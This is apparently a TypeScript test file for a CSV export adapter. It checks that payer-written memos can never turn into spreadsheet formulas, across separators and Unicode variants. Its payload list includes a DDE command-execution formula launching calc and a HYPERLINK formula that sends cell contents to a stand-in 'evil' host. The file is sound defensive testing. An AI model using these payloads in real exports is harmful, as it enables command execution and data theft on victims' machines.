/**
 * Attack: a payer writes a formula as memo, to attack the owner's spreadsheet. A model of a spreadsheet opens the export with the separator
 * of every language, and looks for cells that it would compute.
 */
import { expect } from 'chai'
import fc from 'fast-check'
import { csvLine, harmless } from '../../adapters/export/csv.ts'

/** Splits lines into cells like a program that uses this separator. Quotes count only at the beginning of a cell. */
const cellsOf = (csv: string, separator: string, { quotes = true } = {}): string[] => {
  const cells: string[] = []
  let cell = ''
  let quoted = false
  for (let at = 0; at < csv.length; at++) {
    const letter = csv[at]!
    if (quoted) {
      if (letter !== '"') cell += letter
      else if (csv[at + 1] === '"') cell += csv[++at]!
      else quoted = false
    } else if (letter === '"' && cell === '' && quotes) quoted = true
    else if (letter === separator || /[\r\n\v\f\u0085\u2028\u2029]/.test(letter)) {
      cells.push(cell)
      cell = ''
    } else cell += letter
  }
  return [...cells, cell]
}

const COMPUTED = new Set('=+-@|%')

/** Whether any spreadsheet would compute a cell. It ignores invisible characters, and reads wide letters as narrow ones. */
const isComputed = (cell: string): boolean => {
  if (/^-?\d+(\.\d+)?$/.test(cell)) return false
  const visible = cell.replace(/^[\s\p{Cc}\p{Cf}"]+/u, '')
  return visible !== '' && COMPUTED.has(visible[0]!.normalize('NFKC').replace('\u2212', '-'))
}

const computedIn = (csv: string): string[] =>
  [',', ';', '\t', '|'].flatMap((separator) =>
    [...cellsOf(csv, separator), ...(separator === ',' ? [] : cellsOf(csv, separator, { quotes: false }))].filter(
      isComputed,
    ),
  )

const DANGEROUS = [
  '=1+1', '+1+1', '-1+1', '@SUM(A1)', "=cmd|' /C calc'!A0", '\t=1', '\r=1', '\n=1', ' =1', '\u00a0=1', '\ufeff=1', '\u200b=1', '"=1', "'=1",
  '＝1+1', '＋1', '－1+1', '＠SUM(A1)', '﹦1', '−1+1', '|calc', '%0A=1', '\t', '\r', 'x;=1+1', 'x; =1', 'x;"=1+1"', 'x\t=1', 'x\n=1', 'x\r\n=1', 'x|=1',
  'x\u2028=1', '=HYPERLINK("http://evil/?"&A1;"x")', ' "=1+1"', '\0=1', ';;;=1', '"";"=1',
] // prettier-ignore

describe('an exported cell', () => {
  it('would be computed by a spreadsheet without protection', () => {
    for (const text of DANGEROUS.filter((each) => each.trim() !== '' && !each.startsWith("'")))
      expect(
        computedIn(`1,${text.includes('"') ? `"${text.replaceAll('"', '""')}"` : text},2`),
        JSON.stringify(text),
      ).not.to.deep.equal([])
  })

  it('is never a formula, in any form', () => {
    for (const text of DANGEROUS)
      expect(computedIn(csvLine([1, text, 'x', text])), JSON.stringify(text)).to.deep.equal([])
  })

  it('is never a formula, whatever the payer writes', () => {
    const piece = fc.constantFrom(...DANGEROUS, ...'=+-@|%;,"\'\t\r\n \ufeff＝', 'CHUYEN TIEN DH1042', '-150000.00')
    const text = fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join(''))
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (texts) => {
        expect(computedIn(csvLine([7, ...texts]))).to.deep.equal([])
      }),
      { numRuns: 3_000 },
    )
  })

  it('keeps its content: only apostrophes are added', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1 }), (texts) => {
        for (const text of texts) expect(harmless(text).replaceAll("'", '')).to.equal(text.replaceAll("'", ''))
      }),
    )
    expect(csvLine([1, 'CHUYEN TIEN DH1042', 'a "b", c', null])).to.equal('1,CHUYEN TIEN DH1042,"a ""b"", c",\r\n')
  })

  it('stays a number if it is one', () => {
    expect(csvLine([-5, '-150000.00', '150000.00', '0', '-0.50'])).to.equal('-5,-150000.00,150000.00,0,-0.50\r\n')
    for (const text of ['+84901234567', '-5-5', '--5', '-1e5', '-5\n', '-5 ']) expect(harmless(text)).to.match(/^'/)
  })

  it('takes linear time', () => {
    for (const unit of [' ', '\t', ';', '"', "'", ';"', ' \t', '\u200b']) {
      const began = process.cpuUsage()
      csvLine([`${unit.repeat(200_000)}x`])
      const { user, system } = process.cpuUsage(began)
      expect((user + system) / 1_000, JSON.stringify(unit)).to.be.below(500)
    }
  })
})
